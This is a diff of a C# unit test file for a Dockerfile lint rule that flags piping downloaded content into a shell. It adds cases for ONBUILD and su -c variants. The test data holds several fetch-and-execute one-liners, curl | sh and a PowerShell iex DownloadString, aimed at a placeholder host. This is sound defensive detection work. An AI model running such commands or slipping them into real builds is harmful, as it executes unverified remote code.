@@ -60,6 +60,8 @@ public sealed class DockerfileRuleTests
     [InlineData("RUN powershell -Command iex ((New-Object System.Net.WebClient).DownloadString('https://e.example'))", "2:5 E")]
     [InlineData("RUN (curl https://e.example | \\\n  sh)", "2:6 E")]
     [InlineData("RUN FOO=1 curl https://e.example | FOO=2 BAR=3 sh", "2:5 E")]
+    [InlineData("ONBUILD RUN curl https://e.example | sh", "2:13 E")]
+    [InlineData("RUN su -c \"curl https://e.example | sh\" app", "2:12 E")]
     [InlineData("RUN curl https://e.example/a.tgz | tar xz", "")]
     [InlineData("RUN curl https://e.example/k | gpg --dearmor > /k", "")]
     [InlineData("RUN curl https://e.example/a.json | python3 -c 'import json'", "")]
